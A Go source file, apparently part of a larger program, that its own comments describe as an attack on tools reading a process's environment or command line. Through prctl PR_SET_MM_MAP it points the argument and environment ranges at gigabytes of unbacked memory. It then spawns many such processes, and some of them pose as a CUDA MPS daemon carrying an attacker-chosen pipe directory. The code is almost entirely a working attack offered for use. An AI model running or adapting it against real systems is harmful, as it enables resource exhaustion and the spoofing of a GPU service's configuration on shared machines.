package main

import (
	"bufio"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"unsafe"
)

// The attack on the memory of a program that reads a process's environment or command line. A process may set where in
// its memory these are, and how long they are. A range that was never written costs its owner nothing.

const (
	prSetMM    = 35
	prSetMMMap = 14
)

// mmMap is the kernel's struct prctl_mm_map.
type mmMap struct {
	startCode, endCode, startData, endData, startBrk, brk, startStack, argStart, argEnd, envStart, envEnd uint64
	auxv                                                                                                  uintptr
	auxvSize                                                                                              uint32
	exe                                                                                                   int32
}

// claim gives this process an environment and a command line of so many GiB, which begin with an entry.
func claim(gib int, entry string) error {
	size := gib << 30
	memory, err := syscall.Mmap(-1, 0, size, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_PRIVATE|syscall.MAP_ANON|syscall.MAP_NORESERVE)
	if err != nil {
		return err
	}
	copy(memory, entry)
	fields, err := ownStat()
	if err != nil {
		return err
	}
	brk, _, _ := syscall.RawSyscall(syscall.SYS_BRK, 0, 0, 0)
	start := uint64(uintptr(unsafe.Pointer(&memory[0])))
	m := mmMap{
		startCode: fields[26], endCode: fields[27], startData: fields[45], endData: fields[46], startBrk: fields[47], brk: uint64(brk),
		startStack: fields[28], argStart: start, argEnd: start + uint64(size), envStart: start, envEnd: start + uint64(size), exe: -1,
	}
	if _, _, errno := syscall.RawSyscall6(syscall.SYS_PRCTL, prSetMM, prSetMMMap, uintptr(unsafe.Pointer(&m)), unsafe.Sizeof(m), 0, 0); errno != 0 {
		return fmt.Errorf("prctl: %w", errno)
	}
	return sleep()
}

// ownStat are the numbers of /proc/self/stat as proc(5) numbers them.
func ownStat() (map[int]uint64, error) {
	content, err := os.ReadFile("/proc/self/stat")
	if err != nil {
		return nil, err
	}
	fields := map[int]uint64{}
	for i, field := range strings.Fields(string(content[strings.LastIndexByte(string(content), ')')+1:])) {
		fields[i+3], _ = strconv.ParseUint(field, 10, 64)
	}
	return fields, nil
}

// claims starts so many of them, which end with it. One in two says that it is a daemon with a pipe folder.
func claims(count, gib int, pipe string) error {
	runtime.LockOSThread() // they end with this thread
	for i := range count {
		entry := ""
		if i%2 == 0 {
			entry = "x\x00-d\x00CUDA_MPS_PIPE_DIRECTORY=" + pipe + "\x00"
		}
		one := exec.Command(os.Args[0], "claim", strconv.Itoa(gib), strconv.Quote(entry))
		one.Env = []string{"GOMAXPROCS=1"}
		one.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
		said, err := one.StdoutPipe()
		if err != nil {
			return err
		}
		if err := one.Start(); err != nil {
			return err
		}
		if line, err := bufio.NewReader(said).ReadString('\n'); line != "ready\n" {
			return fmt.Errorf("number %d says %q: %v", i, line, err)
		}
	}
	return sleep()
}
